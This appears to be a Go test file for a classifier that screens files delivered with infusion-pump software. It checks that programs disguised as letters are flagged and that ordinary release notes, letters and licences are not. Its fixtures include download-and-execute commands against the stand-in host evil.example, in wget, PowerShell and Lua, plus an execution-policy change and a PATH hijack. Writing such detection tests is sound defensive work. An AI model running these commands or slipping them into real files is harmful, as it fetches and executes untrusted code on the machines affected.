package delivery

import (
	"os"
	"path/filepath"
	"testing"
)

// TestProgramsAreNoText has programs that begin like letters. Each would run when it is handed to its reader.
func TestProgramsAreNoText(t *testing.T) {
	const letter = "This is the update of the infusion pump\nfor the wards of the hospital\nPlease keep it for your records\n"
	for name, body := range map[string]string{
		"one line of shell":     "wget http://evil.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n",
		"one line in a letter":  letter + "wget http evil example x\n" + letter,
		"shell in two lines":    "wget http://evil.example/payload\nchmod 755 payload\n",
		"copying":               letter + letter + "install -m 755 payload to the bin folder\n",
		"PowerShell":            "Invoke-WebRequest -Uri http://evil.example/x.exe -OutFile x.exe\nStart-Process x.exe\n",
		"PowerShell, variables": "$client = New-Object System.Net.WebClient\n$client.DownloadFile(\"http://evil.example/x.exe\", \"x.exe\")\n",
		"PowerShell in letter":  letter + "Set-ExecutionPolicy Unrestricted\n" + letter,
		"Visual Basic":          "Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nshell.Run \"cmd /c payload.exe\"\n",
		"Ruby":                  "require 'open-uri'\nputs \"updating the pump now\"\nsystem \"sh payload\"\n",
		"Ruby with a block":     letter + "File.open('payload', 'w') do |f|\n f.puts 'and so on'\nend\nload 'payload'\n",
		"Lua":                   "local http = require \"socket.http\"\nlocal body = http.request \"evil.example\"\nos.execute(body)\n",
		"Lua, calls alone":      "os.execute(\"update the pump now\")\n",
		"Dockerfile":            "FROM debian bookworm\nRUN apt get update and install the payload\nCMD payload\n",
		"batch file":            "@echo off\nstart the payload now\n",
		"assignment in letter":  letter + "PATH=/tmp/evil\n" + letter,
		"markup":                letter + "[a](b) [c](d) [e](f) [g](h) [i](j) [k](l) [m](n)\n",
		"numbers":               "The table of doses\n1234 5678 9012\n3456 7890 1234\n5678 9012 3456\n",
	} {
		t.Run(name, func(t *testing.T) {
			if got := kindOf(t, []byte(body)).Kind; got != KindUnknown {
				t.Errorf("got %s, want an artifact", got)
			}
		})
	}
}

func TestOrdinaryTextIsText(t *testing.T) {
	mds2, err := os.ReadFile(filepath.Join("..", "..", "testdata", "deliveries", "infusion-pump", "mds2.txt"))
	must(t, err)
	for name, c := range map[string]struct {
		body string
		want Kind
	}{
		"MDS2 of the demonstration": {string(mds2), KindMDS2},
		"release notes": {`Release notes for Drip 2, version 4.2.3

Changed since 4.2.2:

* The pump stops at once when the door is opened (fault 1182).
* CVE-2026-1234 in zlib is repaired by the update to 1.3.2.
* The alarm is louder in the settings for the ward.

Known faults:

- The clock may be one minute late after a restart.
- Wi-Fi reconnects slowly when the network is hidden.
`, KindText},
		"letter": {`Dear customer,

with this delivery you receive version 4.2.3 of the pump's software. Please
install it within four weeks. You can find the instructions in the manual, and
start the update from the service menu; the pump then restarts by itself and may
reboot twice. Call us under +49 30 1234567 if it does not.

Kind regards
Fabulon Medical
`, KindText},
		"instructions": {`How to update the pump

1. Connect the service cable to the pump.
2. Copy the file to a USB stick.
3. Choose "Update" in the service menu, then wait for the tone.
4. Check that the version shown is 4.2.3.
`, KindText},
		"form": {"Name of the device: Drip 2\nManufacturer: Fabulon Medical\nDate of release: 9 November 2026\n\nThe device complies with the requirements that are listed in its file.\n", KindText},
		"licence": {`Copyright (c) 2026 Fabulon Medical

Permission is granted to use this software with the device it was delivered
with (the "Device"), and with no other. THE SOFTWARE IS PROVIDED AS IT IS,
WITHOUT WARRANTY OF ANY KIND, AND THE AUTHORS ARE NOT LIABLE FOR ANY DAMAGE
FROM ITS USE. ADDITIONAL TERMS MAY APPLY.

You keep the rights in what you contribute; they cover your
Contribution(s) alone, or together with the other Contribution(s)
that were made to the work.
`, KindText},
		"German": {`Prüfbericht über die Freigabe

Die Software wurde am 9. November 2026 geprüft. Alle Prüfungen sind bestanden,
zwei Abweichungen (siehe Anlage) wurden bewertet und für vertretbar gehalten.
`, KindText},
	} {
		t.Run(name, func(t *testing.T) {
			if got := kindOf(t, []byte(c.body)).Kind; got != c.want {
				t.Errorf("got %s, want %s", got, c.want)
			}
		})
	}
}
